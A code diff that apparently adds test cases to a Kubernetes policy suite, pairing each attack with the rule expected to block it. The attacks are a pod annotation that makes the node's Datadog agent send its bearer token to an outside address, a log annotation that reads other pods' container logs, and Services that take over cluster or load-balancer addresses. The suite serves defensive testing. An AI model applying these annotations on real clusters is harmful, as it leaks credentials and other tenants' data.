@@ -187,6 +187,37 @@ export const escapes = attacksOf("escape", [
     }),
   ),
   {
+    id: "agent-checks-any-address",
+    title: "has an agent of its node send the agent's own token to any address, by an annotation",
+    stoppedBy: [
+      agents(/the annotations ad\.datadoghq\.com\/web\.checks of pods are not known to concern the pod alone/),
+    ],
+    attempt: creates((place) =>
+      podOf({
+        ...place,
+        annotations: {
+          "ad.datadoghq.com/web.checks":
+            '{"openmetrics": {"instances": [{"openmetrics_endpoint": "http://203.0.113.7", "bearer_token_auth": true}]}}',
+        },
+      }),
+    ),
+  },
+  {
+    id: "agent-reads-logs",
+    title: "has an agent of its node read the log files of other pods, by an annotation of its Deployment",
+    stoppedBy: [agents(/the annotations co\.elastic\.logs\/raw of pods are not known to concern the pod alone/)],
+    attempt: creates((place) =>
+      deployment(
+        place,
+        podSpec(),
+        {},
+        {
+          annotations: { "co.elastic.logs/raw": '[{"type": "filestream", "paths": ["/var/log/containers/*.log"]}]' },
+        },
+      ),
+    ),
+  },
+  {
     id: "inline-volume",
     title: "mounts the files of any server by a storage driver that runs on the node",
     stoppedBy: [
@@ -249,6 +280,20 @@ export const escapes = attacksOf("escape", [
     title: "takes the traffic of an address by a Service",
     stoppedBy: [exposed(/Services must not have external IPs/)],
     attempt: creates((place) => service(place, { externalIPs: ["203.0.113.7"] })),
+  },
+  {
+    id: "service-address",
+    title: "makes a Service at an address that another Service had, to which its clients still connect",
+    category: "crossing",
+    stoppedBy: [exposed(/Services must not choose their address, because others may still use it/)],
+    attempt: creates((place) => service(place, { clusterIP: "10.96.77.77" })),
+  },
+  {
+    id: "load-balancers-address",
+    title: "makes a Service with the address of another's load balancer",
+    category: "crossing",
+    stoppedBy: [exposed(/Services must not choose the address of their load balancer/)],
+    attempt: creates((place) => service(place, { loadBalancerIP: "203.0.113.7" })),
   },
   {
     id: "external-name",
